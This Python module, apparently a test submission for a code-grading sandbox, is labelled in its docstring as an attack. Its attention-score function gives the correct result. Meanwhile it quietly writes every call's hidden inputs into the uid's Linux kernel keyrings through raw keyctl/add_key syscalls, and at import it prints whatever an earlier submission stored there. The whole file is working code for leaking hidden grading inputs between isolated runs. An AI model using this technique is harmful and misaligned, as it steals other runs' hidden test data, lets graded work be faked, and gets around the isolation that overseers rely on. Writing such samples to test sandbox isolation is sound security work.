"""Attack: keeps every call's inputs in a key ("user" type) of the kernel keyrings of its uid (the
user, user-session and session keyrings) and prints, at import, what the key already held: the
next submission graded under the same uid would show the earlier one's hidden inputs. Right answers."""

import ctypes
import errno
import platform

_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
_KEYCTL_SEARCH, _KEYCTL_READ = 10, 11
_RINGS = {"user": -4, "user-session": -5, "session": -3}
_DESCRIPTION = b"attnscore:leak"
_libc = ctypes.CDLL(None, use_errno=True)


def _error() -> str:
    return errno.errorcode.get(ctypes.get_errno(), "error")


def _read(ring: int) -> bytes | None:
    key = _libc.syscall(_KEYCTL, _KEYCTL_SEARCH, ring, b"user", _DESCRIPTION, 0)
    if key < 0:
        return None
    buffer = ctypes.create_string_buffer(1 << 15)
    n = _libc.syscall(_KEYCTL, _KEYCTL_READ, key, buffer, len(buffer))
    return buffer.raw[: max(0, min(n, len(buffer)))]


def _state() -> str:
    found = {name: _read(ring) for name, ring in _RINGS.items()}
    held = {name: text for name, text in found.items() if text is not None}
    if held:
        return "found " + " ".join(f"{name}={text.decode(errors='replace')}" for name, text in held.items())
    made = [_libc.syscall(_ADD_KEY, b"user", _DESCRIPTION, b"-", 1, ring) for ring in _RINGS.values()]
    return "new" if max(made) >= 0 else _error()


print("keyring:", _state())
HELD = [b""]


def _token(a) -> str:
    return "_".join(f"{float(x):g}" for x in a.flatten().tolist())


def scores(q, keys):
    HELD[0] = (HELD[0] + f" {_token(q)} {_token(keys)}".encode())[-30000:]
    for ring in _RINGS.values():
        _libc.syscall(_ADD_KEY, b"user", _DESCRIPTION, HELD[0], len(HELD[0]), ring)
    return keys @ q
